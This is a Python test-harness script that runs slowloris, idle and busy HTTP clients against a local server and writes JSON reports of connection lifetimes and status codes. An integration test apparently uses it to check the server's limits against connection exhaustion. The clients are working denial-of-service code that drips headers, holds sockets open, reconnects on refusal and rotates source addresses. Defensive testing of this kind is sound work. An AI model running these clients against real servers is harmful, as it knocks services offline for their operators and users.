#!/usr/bin/env python3
"""Hostile HTTP clients for the hostile scenarios (stdlib only, one process,
one selectors loop, no threads).

    python3 http_attack.py --target 127.0.0.1:24101 --sources 127.0.0.2-127.0.0.21 \\
        --slowloris 100 --duration 30 --report slow.json
    python3 http_attack.py --target 127.0.0.1:24101 --sources 127.0.0.3 \\
        --idle 64 --duration 30 --report idle.json

Kinds of client (each client i binds to source i % len(sources)):
  * slowloris: sends a request line and a few headers, then one more header
    line every --drip seconds, never the blank line that ends the headers.
    When the server closes it (or refuses it with 503), it reconnects at its
    next drip tick, so the pressure stays up.
  * idle: connects and sends nothing; reconnects --drip seconds after the
    server closes or refuses it.
  * busy: one keep-alive connection that sends GET <path> (cycling through
    --paths) as soon as the previous response is complete. When the server
    closes it or answers 503, it reconnects at once.

Prints "ready" once every client has connected (or been refused) once.
Runs for --duration seconds (or until SIGTERM/SIGINT), closes everything and
writes the report (JSON) to --report, then exits 0:
  {"slowloris": {"connections": [{"source", "opened", "closed", "lifetime",
                                  "outcome", "status", "bytes_sent"}, ...]},
   "idle": {"connections": [... as for slowloris ...]},
   "busy": {"requests", "statuses": {code: n}, "connections", "refused",
            "closed_by_server", "errors"}}
Times are seconds since the start; "outcome" is "refused" (a response, e.g.
503, at once), "closed" (closed by the server without a response: EOF or
reset), "answered" (a response after the request started, e.g. 400/408),
"open" (still open at the end) or "connect_failed". Tests import it only as
a program (tests/integration/test_hostile_http_abuse.py spawns it).
"""

import argparse
import errno
import heapq
import ipaddress
import itertools
import json
import os
import selectors
import signal
import socket
import time

READ_CHUNK = 65536


def parse_sources(text):
    """"127.0.0.2-127.0.0.21" or "127.0.0.2,127.0.0.3" -> list of addresses."""
    out = []
    for part in text.split(","):
        if "-" in part:
            lo, hi = (ipaddress.ip_address(p.strip()) for p in part.split("-", 1))
            out += [str(ipaddress.ip_address(a)) for a in range(int(lo), int(hi) + 1)]
        else:
            out.append(part.strip())
    return out


class Loop:
    """A selectors loop with timers (heap of (when, seq, fn))."""

    def __init__(self):
        self.sel = selectors.DefaultSelector()
        self.timers = []
        self.seq = itertools.count()
        self.t0 = time.monotonic()
        self.stopping = False
        self.waiting = set()  # clients that have not connected (or been refused) yet

    def settled(self, client):
        """`client` has connected, or been refused, for the first time."""
        if client in self.waiting:
            self.waiting.discard(client)
            if not self.waiting:
                print("ready", flush=True)

    def now(self):
        return time.monotonic() - self.t0

    def at(self, when, fn):
        heapq.heappush(self.timers, (when, next(self.seq), fn))

    def run(self, until):
        while not self.stopping and self.now() < until:
            timeout = until - self.now()
            if self.timers:
                timeout = min(timeout, self.timers[0][0] - self.now())
            for key, mask in self.sel.select(max(0.0, timeout)):
                key.data(mask)
            while self.timers and self.timers[0][0] <= self.now():
                _, _, fn = heapq.heappop(self.timers)
                fn()


class Client:
    """One non-blocking connection from `source` to `target`, reopened on demand."""

    def __init__(self, loop, target, source):
        self.loop = loop
        self.target = target
        self.source = source
        self.sock = None
        self.connected = False
        self.opened = 0.0

    def open(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setblocking(False)
        self.connected = False
        try:
            self.sock.bind((self.source, 0))
            rc = self.sock.connect_ex(self.target)
        except OSError as e:
            rc = e.errno
        if rc not in (0, errno.EINPROGRESS):
            self.loop.settled(self)
            self.sock.close()
            self.sock = None
            self.on_close("connect_failed", None)
            return
        self.opened = self.loop.now()
        self.loop.sel.register(self.sock, selectors.EVENT_WRITE, self._event)

    def _event(self, mask):
        if not self.connected:
            err = self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                self.loop.settled(self)
                self.close("connect_failed", None)
                return
            self.connected = True
            self.loop.settled(self)
            self.loop.sel.modify(self.sock, selectors.EVENT_READ, self._event)
            self.on_connect()
            return
        try:
            data = self.sock.recv(READ_CHUNK)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            data = None  # reset
        self.on_data(data)

    def send(self, data):
        """Sends what the kernel takes now; False if the connection is gone."""
        try:
            self.sock.send(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False

    def close(self, outcome, status):
        if self.sock is not None:
            try:
                self.loop.sel.unregister(self.sock)
            except (KeyError, ValueError):
                pass
            self.sock.close()
            self.sock = None
        self.on_close(outcome, status)

    # Subclasses: on_connect(), on_data(bytes or b"" at EOF or None on reset), on_close().


def status_of(head):
    """The status code of a response head (bytes), or None."""
    parts = head.split(b" ", 2)
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/") and parts[1].isdigit():
        return int(parts[1])
    return None


class Slowloris(Client):
    def __init__(self, loop, target, source, drip, records):
        super().__init__(loop, target, source)
        self.drip = drip
        self.records = records
        self.sent = 0
        self.lines = 0
        self.reply = b""
        self.generation = 0

    def start(self):
        self.open()

    def on_connect(self):
        self.sent = self.lines = 0
        self.reply = b""
        self._send(f"GET /health HTTP/1.1\r\nHost: {self.target[0]}\r\nUser-Agent: slowloris\r\n".encode())
        self.generation += 1
        self._schedule(self.generation)

    def _schedule(self, generation):
        def tick():
            if generation != self.generation or self.sock is None:
                return
            self.lines += 1
            if not self._send(f"X-Slow-{self.lines}: {self.lines}\r\n".encode()):
                self.close("closed", None)
                return
            self._schedule(generation)
        self.loop.at(self.loop.now() + self.drip, tick)

    def _send(self, data):
        ok = self.send(data)
        if ok:
            self.sent += len(data)
        return ok

    def on_data(self, data):
        if data:
            self.reply += data
            return
        status = status_of(self.reply)
        outcome = "closed" if status is None else "refused" if status == 503 else "answered"
        self.close(outcome, status)

    def on_close(self, outcome, status):
        now = self.loop.now()
        self.records.append({"source": self.source, "opened": round(self.opened, 3), "closed": round(now, 3),
                             "lifetime": round(now - self.opened, 3), "outcome": outcome, "status": status,
                             "bytes_sent": self.sent})
        self.generation += 1
        if not self.loop.stopping:
            self.loop.at(now + self.drip, self.start)

    def finish(self):
        if self.sock is not None:
            now = self.loop.now()
            self.records.append({"source": self.source, "opened": round(self.opened, 3), "closed": None,
                                 "lifetime": round(now - self.opened, 3), "outcome": "open", "status": None,
                                 "bytes_sent": self.sent})
            self.sock.close()
            self.sock = None


class Idle(Slowloris):
    """A slowloris that sends nothing at all."""

    def on_connect(self):
        self.sent = self.lines = 0
        self.reply = b""
        self.generation += 1


class Busy(Client):
    def __init__(self, loop, target, source, paths, stats):
        super().__init__(loop, target, source)
        self.paths = itertools.cycle(paths)
        self.stats = stats
        self.buf = b""

    def start(self):
        self.stats["connections"] += 1
        self.open()

    def on_connect(self):
        self._request()

    def _request(self):
        self.buf = b""
        req = f"GET {next(self.paths)} HTTP/1.1\r\nHost: {self.target[0]}\r\n\r\n".encode()
        if not self.send(req):
            self.stats["closed_by_server"] += 1
            self.close("closed", None)

    def on_data(self, data):
        if not data:
            self.stats["closed_by_server"] += 1
            self.close("closed", None)
            return
        self.buf += data
        end = self.buf.find(b"\r\n\r\n")
        if end < 0:
            return
        head = self.buf[:end].lower()
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip() == b"content-length":
                length = int(value.strip() or 0)
        if len(self.buf) < end + 4 + length:
            return
        status = status_of(self.buf)
        self.stats["requests"] += 1
        self.stats["statuses"][str(status)] = self.stats["statuses"].get(str(status), 0) + 1
        if status == 503 and b"too many connections" in self.buf:
            self.stats["refused"] += 1
        if b"connection: close" in head:
            self.close("closed", status)
            return
        self._request()

    def on_close(self, outcome, status):
        if outcome == "connect_failed":
            self.stats["errors"] += 1
        if not self.loop.stopping:
            # At once after a close or a 503 (hostile); paced after a failed connect.
            self.loop.at(self.loop.now() + (0.1 if outcome == "connect_failed" else 0.0), self.start)

    def finish(self):
        if self.sock is not None:
            self.sock.close()
            self.sock = None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--target", required=True, help="host:port of the HTTP server")
    ap.add_argument("--sources", required=True, help="source addresses: a,b,c or first-last")
    ap.add_argument("--slowloris", type=int, default=0)
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--busy", type=int, default=0)
    ap.add_argument("--paths", default="/health,/metrics", help="busy clients' paths, comma-separated")
    ap.add_argument("--drip", type=float, default=1.0,
                    help="seconds between a slowloris client's header lines; an idle client's reconnect delay")
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--report", required=True)
    args = ap.parse_args()

    host, port = args.target.rsplit(":", 1)
    target = (host, int(port))
    sources = parse_sources(args.sources)
    loop = Loop()

    def stop(_signum, _frame):
        loop.stopping = True
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    records = []
    stats = {"requests": 0, "statuses": {}, "connections": 0, "refused": 0, "closed_by_server": 0, "errors": 0}
    clients = [Slowloris(loop, target, sources[i % len(sources)], args.drip, records) for i in range(args.slowloris)]
    idle_records = []
    clients += [Idle(loop, target, sources[i % len(sources)], args.drip, idle_records) for i in range(args.idle)]
    clients += [Busy(loop, target, sources[i % len(sources)], args.paths.split(","), stats) for i in range(args.busy)]
    loop.waiting = set(clients)
    for c in clients:
        c.start()
    print(f"started {args.slowloris} slowloris, {args.idle} idle and {args.busy} busy clients from "
          f"{len(sources)} sources", flush=True)
    loop.run(args.duration)
    loop.stopping = True
    for c in clients:
        c.finish()
    with open(args.report + ".tmp", "w") as f:
        json.dump({"duration": round(loop.now(), 3), "slowloris": {"connections": records},
                   "idle": {"connections": idle_records}, "busy": stats}, f)
    os.replace(args.report + ".tmp", args.report)
    print("done", flush=True)


if __name__ == "__main__":
    main()
